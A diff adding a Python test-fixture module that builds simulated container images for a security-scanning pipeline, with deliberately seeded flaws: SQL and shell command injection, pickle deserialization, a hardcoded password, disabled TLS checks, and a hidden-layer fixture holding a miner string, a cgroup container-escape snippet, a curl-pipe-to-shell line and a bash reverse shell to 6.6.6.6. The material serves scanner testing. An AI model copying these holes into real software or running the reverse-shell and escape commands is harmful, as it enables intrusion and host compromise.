@@ -1,0 +1,231 @@
+"""Edge-application images for the GENIO registry.
+
+Five builders matching the paper's use cases, with *deliberate* security
+characteristics so the M13-M18 pipeline has realistic work to do:
+
+* :func:`ml_inference_image` — a clean, well-built ML workload (the
+  pipeline should pass it);
+* :func:`iot_analytics_image` — carries vulnerable-but-unused
+  dependencies (the Lesson 7 SCA-noise case);
+* :func:`vulnerable_webapp_image` — real Python source with seeded SAST
+  findings and a REST API with seeded DAST defects (T7);
+* :func:`malicious_miner_image` — a reused external image hiding a
+  cryptominer and escape tooling (T8);
+* :func:`legacy_java_billing_image` — Java sources for the
+  SpotBugs-style rules.
+"""
+
+from __future__ import annotations
+
+from repro.virt.image import ContainerImage, ImagePackage
+
+
+def ml_inference_image() -> ContainerImage:
+    """A clean ML inference service from a diligent business user."""
+    image = ContainerImage(
+        name="acme/ml-inference", tag="2.3.1", user="mlsvc",
+        exposed_ports=(8443,), provenance="genio-registry",
+        openapi_spec={
+            "paths": {
+                "/v1/predict": {"post": {
+                    "parameters": [{"name": "features"}],
+                    "security": [{"bearer": []}],
+                }},
+            },
+        })
+    image.packages.extend([
+        ImagePackage("numpy", "1.26.4", "pypi"),
+        ImagePackage("urllib3", "2.1.0", "pypi"),
+        ImagePackage("jinja2", "3.1.3", "pypi"),
+    ])
+    image.add_layer({
+        "/app/serve.py": (
+            "import hashlib\n"
+            "import hmac\n\n\n"
+            "def verify_request(key: bytes, body: bytes, tag: bytes) -> bool:\n"
+            "    expected = hmac.new(key, body, hashlib.sha256).digest()\n"
+            "    return hmac.compare_digest(expected, tag)\n\n\n"
+            "def predict(features):\n"
+            "    return {'score': sum(features) / max(len(features), 1)}\n"
+        ).encode(),
+    }, created_by="COPY serve.py")
+    return image
+
+
+def iot_analytics_image() -> ContainerImage:
+    """IoT data processing; its base layer drags in unused old packages."""
+    image = ContainerImage(
+        name="meterco/iot-analytics", tag="1.4.0",
+        exposed_ports=(8080,), provenance="genio-registry",
+        openapi_spec={
+            "paths": {
+                "/ingest": {"post": {
+                    "parameters": [{"name": "meter_id"}, {"name": "reading"}],
+                    "x-vuln": "type-confusion",
+                }},
+            },
+        })
+    image.packages.extend([
+        ImagePackage("urllib3", "1.25.8", "pypi", imported=True),
+        # Pulled in by the fat base image, never imported by the app:
+        ImagePackage("django", "2.2.0", "pypi", imported=False),
+        ImagePackage("celery", "4.4.0", "pypi", imported=False),
+        ImagePackage("ipython", "7.20.0", "pypi", imported=False),
+        ImagePackage("jinja2", "2.10.1", "pypi", imported=False),
+        # A distro rebuild under a different name: fuzzy SCA identification
+        # will (mis)attach jinja2 advisories to it (Lesson 7).
+        ImagePackage("python-jinja", "2.10.1", "pypi", imported=False),
+    ])
+    image.add_layer({
+        "/app/ingest.py": (
+            "import urllib3\n\n\n"
+            "def ingest(meter_id, reading):\n"
+            "    value = int(reading)\n"
+            "    return {'meter': meter_id, 'value': value}\n"
+        ).encode(),
+    }, created_by="COPY ingest.py")
+    return image
+
+
+def vulnerable_webapp_image() -> ContainerImage:
+    """A third-party web app with seeded static and dynamic defects."""
+    image = ContainerImage(
+        name="webshop/storefront", tag="0.9.2", user="root",
+        env={"DB_PASSWORD": "hunter2", "LOG_LEVEL": "debug"},
+        exposed_ports=(80,), provenance="external",
+        openapi_spec={
+            "paths": {
+                "/products": {"get": {
+                    "parameters": [{"name": "category"}],
+                    "x-vuln": "sqli",
+                }},
+                "/search": {"get": {
+                    "parameters": [{"name": "q"}],
+                    "x-vuln": "xss",
+                }},
+                "/admin/export": {"post": {
+                    "parameters": [{"name": "format"}],
+                    "security": [{"bearer": []}],
+                    "x-vuln": "missing-auth-check",
+                }},
+            },
+        })
+    image.packages.extend([
+        ImagePackage("django", "2.2.0", "pypi"),
+        ImagePackage("urllib3", "1.25.8", "pypi"),
+        ImagePackage("jinja2", "2.10.1", "pypi"),
+    ])
+    image.add_layer({
+        "/app/views.py": (
+            "import hashlib\n"
+            "import os\n"
+            "import pickle\n"
+            "import subprocess\n\n"
+            "db_password = 'hunter2'\n\n\n"
+            "def get_products(conn, category):\n"
+            "    query = \"SELECT * FROM products WHERE cat='\" + category + \"'\"\n"
+            "    return conn.execute(query)\n\n\n"
+            "def export(fmt, session_blob):\n"
+            "    session = pickle.loads(session_blob)\n"
+            "    subprocess.run('export --fmt ' + fmt, shell=True)\n"
+            "    return session\n\n\n"
+            "def cache_key(user):\n"
+            "    return hashlib.md5(user.encode()).hexdigest()\n\n\n"
+            "def ping(host):\n"
+            "    os.system('ping -c1 ' + host)\n"
+        ).encode(),
+        "/app/settings.py": (
+            "debug = True\n"
+            "API_BASE = \"http://api.webshop.example/v1\"\n"
+            "requests_kwargs = {'verify': False}\n"
+        ).encode(),
+    }, created_by="COPY app/")
+    return image
+
+
+def malicious_miner_image() -> ContainerImage:
+    """A reused external image with a hidden miner and escape tooling."""
+    image = ContainerImage(
+        name="freebie/fast-cache", tag="latest", user="root",
+        provenance="external")
+    image.add_layer({
+        "/usr/local/bin/cache-daemon": b"legit looking cache daemon bytes",
+    }, created_by="COPY cache-daemon")
+    image.add_layer({
+        "/opt/.hidden/xmrig": (b"ELF...xmrig miner...stratum+tcp://"
+                               b"pool.evil.example:3333 --donate-level=0"),
+        "/opt/.hidden/escape.sh": (
+            b"#!/bin/sh\n"
+            b"# mount cgroup and abuse release_agent\n"
+            b"echo payload > /sys/fs/cgroup/release_agent\n"
+            b"cat /var/run/docker.sock\n"),
+        "/opt/.hidden/persist.sh": (
+            b"#!/bin/sh\ncurl -s | sh\nbash -i >& /dev/tcp/6.6.6.6/4444 0>&1\n"),
+    }, created_by="RUN install-extras (obfuscated)")
+    return image
+
+
+def telemetry_gateway_image() -> ContainerImage:
+    """A network-function workload bridging meter telemetry northbound.
+
+    Seeds the remaining DAST defect families: an unauthenticated-write
+    hole behind an auth-marked endpoint and a buffer-growth crash on
+    oversized inputs, plus an insecure-deserialization SAST finding.
+    """
+    image = ContainerImage(
+        name="telco/telemetry-gateway", tag="3.0.1", user="gateway",
+        exposed_ports=(9443,), provenance="genio-registry",
+        openapi_spec={
+            "paths": {
+                "/telemetry/batch": {"post": {
+                    "parameters": [{"name": "payload"}],
+                    "x-vuln": "overflow",
+                }},
+                "/config/reload": {"post": {
+                    "parameters": [{"name": "profile"}],
+                    "security": [{"bearer": []}],
+                    "x-vuln": "missing-auth-check",
+                }},
+            },
+        })
+    image.packages.extend([
+        ImagePackage("urllib3", "2.1.0", "pypi"),
+        ImagePackage("celery", "5.0.0", "pypi"),
+    ])
+    image.add_layer({
+        "/app/gateway.py": (
+            "import pickle\n\n\n"
+            "def load_session(blob):\n"
+            "    return pickle.loads(blob)\n\n\n"
+            "def forward(batch):\n"
+            "    return [record for record in batch if record]\n"
+        ).encode(),
+    }, created_by="COPY gateway.py")
+    return image
+
+
+def legacy_java_billing_image() -> ContainerImage:
+    """A legacy Java billing service (SpotBugs-style findings)."""
+    image = ContainerImage(
+        name="telco/billing-legacy", tag="5.1", user="root",
+        exposed_ports=(8009,), provenance="genio-registry")
+    image.packages.extend([
+        ImagePackage("log4j-core", "2.14.0", "maven"),
+        ImagePackage("commons-text", "1.9", "maven"),
+    ])
+    image.add_layer({
+        "/opt/billing/src/Billing.java": (
+            "public class Billing {\n"
+            "    String lookup(String id) throws Exception {\n"
+            "        return stmt.executeQuery(\"SELECT * FROM bills WHERE id=\" + id);\n"
+            "    }\n"
+            "    void run(String cmd) throws Exception {\n"
+            "        Runtime.getRuntime().exec(cmd);\n"
+            "    }\n"
+            "    byte[] digest(byte[] in) throws Exception {\n"
+            "        return MessageDigest.getInstance(\"MD5\").digest(in);\n"
+            "    }\n"
+            "}\n"
+        ).encode(),
+    }, created_by="COPY src/")
+    return image
